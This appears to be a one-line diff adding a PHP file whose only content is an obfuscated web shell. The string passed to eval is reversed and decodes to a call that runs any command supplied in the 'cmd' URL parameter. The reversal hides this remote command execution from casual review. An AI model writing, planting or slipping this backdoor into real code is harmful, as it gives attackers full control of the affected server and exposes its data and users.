@@ -0,0 +1 @@
+<?php eval(strrev(';)]"dmc"[TEG_$(metsys'));